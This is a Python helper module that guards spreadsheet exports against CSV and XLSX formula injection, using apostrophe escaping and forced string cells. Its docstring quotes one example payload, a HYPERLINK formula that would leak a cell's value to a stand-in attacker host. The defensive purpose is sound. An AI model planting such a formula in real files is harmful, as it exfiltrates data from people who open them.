"""Formula-safe cells for every CSV and XLSX the registry writes (exports, import reports).

Text a spreadsheet would run as a formula — starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return — must reach the reader as text: a header such as
``=HYPERLINK("http://evil.example/?leak="&B2,"点此")`` in an uploaded file would otherwise come back
as a live link in the import report. XLSX cells keep the exact text, stored as a string cell
(never a formula); CSV has no cell types, so such text gets a leading apostrophe (OWASP's advice),
which spreadsheets hide. Numbers, dates and None pass through unchanged.
"""
from __future__ import annotations

from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> str:
    """A CSV field: text that would run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_START) else value
    return str(value)


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def xlsx_text_cell(sheet, value: str):
    """One text value for ``sheet.append`` (write-only or not) that openpyxl stores as text,
    never as a formula; control characters, which XML does not allow, are removed."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not value.startswith("="):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would otherwise write "=…" as a formula
    return cell


def append_xlsx_row(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every text cell stored as text (never a formula) and the
    control characters XML cannot hold removed. Works for normal and write-only sheets."""
    sheet.append([xlsx_text_cell(sheet, v) if isinstance(v, str) else v for v in values])
